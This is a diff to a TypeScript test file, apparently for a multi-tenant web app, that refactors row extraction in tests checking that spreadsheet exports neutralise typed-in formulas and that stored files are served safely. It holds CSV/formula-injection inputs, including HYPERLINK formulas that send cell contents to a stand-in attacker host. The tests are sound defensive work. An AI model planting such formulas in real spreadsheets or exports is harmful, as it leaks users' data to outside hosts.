@@ -10,6 +10,7 @@ import { workbookBuffer, xlsxStream } from '../src/lib/xlsx-writer';
 import { uploadFile } from './data-upload-support';
 import { api, buildTestApp, login, TENANT_A, type TestApp } from './helpers';
 import { PDF, createMeeting, meetingBody, multipart, repChoices, upload } from './meeting-fixtures';
+import { rowsOf } from '../src/db/rows';
 
 const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000005000157c2b0a10000000049454e44ae426082', 'hex');
 const FORMULAS = ['=HYPERLINK("http://evil.example","Click")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];
@@ -78,10 +79,10 @@ describe('exports and stored files over HTTP', () => {
 
   it('neutralises a formula a rep typed as a remark in the verification download', async () => {
     const doctorId = Number(
-      (
-        (await t.app.db.execute(sql`select d.id from doctor d join doctor_assignment a on a.doctor_id = d.id join organization o on o.id = a.org_id
-      where o.code = 'T-SH1-1' and d.tenant_id = 1 order by d.id limit 1`)) as unknown as { rows: Array<{ id: number }> }
-      ).rows[0]!.id,
+      rowsOf<{ id: number }>(
+        await t.app.db.execute(sql`select d.id from doctor d join doctor_assignment a on a.doctor_id = d.id join organization o on o.id = a.org_id
+      where o.code = 'T-SH1-1' and d.tenant_id = 1 order by d.id limit 1`),
+      )[0]!.id,
     );
     const remark = '=HYPERLINK("http://evil.example/?"&A1,"Details")';
     const draft = await api(t.app, rep, { method: 'POST', url: '/prod-api/doctor/verify/save', payload: { doctorId, remark } });
@@ -115,10 +116,10 @@ describe('exports and stored files over HTTP', () => {
 
   it('serves stored files with nosniff, and anything but a checked image as an attachment', async () => {
     const doctorId = Number(
-      (
-        (await t.app.db.execute(sql`select d.id from doctor d join doctor_assignment a on a.doctor_id = d.id join organization o on o.id = a.org_id
-      where o.code = 'T-SH1-1' and d.tenant_id = 1 order by d.id desc limit 1`)) as unknown as { rows: Array<{ id: number }> }
-      ).rows[0]!.id,
+      rowsOf<{ id: number }>(
+        await t.app.db.execute(sql`select d.id from doctor d join doctor_assignment a on a.doctor_id = d.id join organization o on o.id = a.org_id
+      where o.code = 'T-SH1-1' and d.tenant_id = 1 order by d.id desc limit 1`),
+      )[0]!.id,
     );
     const draft = (await api(t.app, rep, { method: 'POST', url: '/prod-api/doctor/verify/save', payload: { doctorId } })).json().result;
     for (const [name, content] of [
